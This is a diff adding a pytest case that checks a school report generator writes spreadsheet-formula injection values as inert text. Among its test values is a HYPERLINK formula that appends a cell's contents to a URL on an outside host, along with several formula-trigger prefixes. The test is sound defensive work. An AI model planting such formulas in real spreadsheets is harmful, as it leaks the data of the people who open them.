@@ -216,3 +216,25 @@ def test_the_demo_school_mostly_passes_over_its_cycle(capsys: pytest.CaptureFixt
     line = next(line for line in out.splitlines() if line.startswith("整个周期"))
     passed = int(line.split("达标 ")[1].split(" 人")[0])
     assert passed >= 12, line
+
+
+FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+def test_teachers_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    import zipfile
+
+    project = make_project(tmp_path / "school")
+    base = {"type": "微课", "subject": "数学", "grade": "一年级", "competencies": ["B2"]}
+    for number, text in enumerate(FORMULAS):
+        write_meta(project.resources / T / f"f{number}", {**base, "title": text, "authors": [f"教师{number}"], "group": text})
+    write_meta(project.resources / T / "bad", {**base, "title": "=1+1", "authors": ["张敏"], "subject": "=1+2"})
+    (project.resources / "teachers.csv").write_bytes(csv_bytes([["姓名", "教研组"], ["=1+3", "=1+4"], ["张敏", "-1"]], "utf-8"))
+    main(["--root", str(project.root), "check"])
+    path = project.reports / "完成情况.xlsx"
+    with zipfile.ZipFile(path) as book:
+        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not [s for s in sheets if "<f>" in s or "<f " in s], "a live formula in the report"
+    cells = {c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert {f.strip() for f in FORMULAS} <= cells and {"=1+3", "=1+4", "-1"} <= cells  # shown as typed (intake trims blanks)
+    assert any("=1+2" in value for value in cells)  # a refusal quoting the value
